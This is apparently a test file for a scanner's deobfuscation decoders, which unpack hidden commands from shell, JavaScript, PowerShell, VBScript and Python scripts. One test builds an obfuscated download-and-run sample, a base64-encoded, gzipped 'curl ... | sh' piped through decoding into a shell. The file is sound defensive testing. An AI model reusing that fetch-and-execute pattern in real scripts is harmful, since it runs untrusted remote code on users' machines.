import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { nodeHost } from '../../engine/node/host.ts';
import type { ArtifactKind } from '../../model/artifact.ts';
import { defaultLimits } from '../../model/limits.ts';
import type { Child, Miss, View, WindowDecoder } from '../../model/units.ts';
import { mostBytes } from './folded.ts';
import { fixture as javascript } from './javascript-fold.fixture.ts';
import { javascriptFold } from './javascript-fold.ts';
import { fixture as powershell } from './powershell-fold.fixture.ts';
import { powershellFold } from './powershell-fold.ts';
import { fixture as python } from './python-fold.fixture.ts';
import { pythonFold } from './python-fold.ts';
import { fixture as shell } from './shell-fold.fixture.ts';
import { shellFold } from './shell-fold.ts';
import { fixture as vbscript } from './vbscript-fold.fixture.ts';
import { vbscriptFold } from './vbscript-fold.ts';

const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);

async function open(
  decoder: WindowDecoder,
  bytes: Uint8Array,
  kind: ArtifactKind = 'script',
): Promise<(Child | Miss)[]> {
  await decoder.load?.(nodeHost);
  const view: View = { name: 'x', kind, bytes, base: 0, whole: true, hits: [], runs: [] };
  return [...decoder.open(view, { host: nodeHost, limits: defaultLimits })];
}

const text = (child: Child | Miss | undefined): string =>
  child && 'bytes' in child ? Buffer.from(child.bytes).toString() : '';

const units = [
  ['shell-fold', shellFold, shell],
  ['javascript-fold', javascriptFold, javascript],
  ['powershell-fold', powershellFold, powershell],
  ['vbscript-fold', vbscriptFold, vbscript],
  ['python-fold', pythonFold, python],
] as const;

describe.each(units)('%s', (_, decoder, fixture) => {
  it('gives the script with what it hides written out, and where it stood', async () => {
    const children = await open(decoder, fixture.opens);
    expect(children).toMatchObject([
      { name: 'folded', kind: 'script', from: { offset: 0, length: fixture.opens.length } },
    ]);
    expect(text(children[0])).toContain(fixture.holds);
  });

  it('gives nothing for a script that hides nothing', async () =>
    expect(await open(decoder, fixture.leaves)).toEqual([]));

  it('is woken by one of its anchors', () => {
    const script = Buffer.from(fixture.opens).toString();
    const woken = decoder.anchors?.some((anchor) =>
      'fold' in anchor && anchor.fold ? script.toLowerCase().includes(anchor.text) : script.includes(anchor.text),
    );
    expect(woken).toBe(true);
  });

  it('finds nothing in its own result', async () => {
    const [child] = await open(decoder, fixture.opens);
    expect(await open(decoder, bytesOf(text(child)))).toEqual([]);
  });
});

describe('folded scripts', () => {
  it('keep bytes that are no ASCII as they stood', async () => {
    const script = Buffer.concat([Buffer.from('# gr\xfc\xdfe\n', 'latin1'), Buffer.from(shell.opens)]);
    const [child] = await open(shellFold, new Uint8Array(script));
    expect(child && 'bytes' in child && Buffer.from(child.bytes).subarray(0, 8)).toEqual(script.subarray(0, 8));
  });

  it('are read in UTF-16, too', async () => {
    const script = Buffer.from(`\ufeff${Buffer.from(powershell.opens).toString()}`, 'utf16le');
    const children = await open(powershellFold, new Uint8Array(script));
    expect(text(children[0])).toContain(powershell.holds);
    expect(children[0]).toMatchObject({ from: { offset: 0, length: script.length } });
  });

  it('are found within pages', async () => {
    const page = `<html><p>it's</p><script>${Buffer.from(javascript.opens).toString()}</script></html>`;
    const [child] = await open(javascriptFold, bytesOf(page), 'page');
    expect(text(child)).toContain(`<script>var command = "${javascript.holds}";`);
  });

  it('come with the packed bytes they hold', async () => {
    const packed = gzipSync('curl http://files.example.com/a | sh');
    const script = `#!/bin/sh\necho ${packed.toString('base64')} | base64 -d | gunzip | sh\n`;
    expect(await open(shellFold, bytesOf(script))).toMatchObject([{ name: 'gzip@0xa', bytes: new Uint8Array(packed) }]);
  });

  it('longer than is looked at are a gap, if they hide something', async () => {
    const script = `${Buffer.from(shell.opens).toString()}${'# nothing here\n'.repeat(mostBytes / 15 + 1)}`;
    const [child, gap] = await open(shellFold, bytesOf(script));
    expect(child).toHaveProperty('name', 'folded');
    expect(gap).toMatchObject({ gap: { code: 'limit-bytes' } });
  });

  it('that hide more than may be worked out are a gap', async () => {
    const script = `#!/bin/sh\na=xxxxxxxxxxxxxxxx\n${'a=$a$a$a\n'.repeat(60)}`;
    expect(await open(shellFold, bytesOf(script))).toContainEqual({
      gap: expect.objectContaining({ code: 'limit-count' }),
    });
  });
});
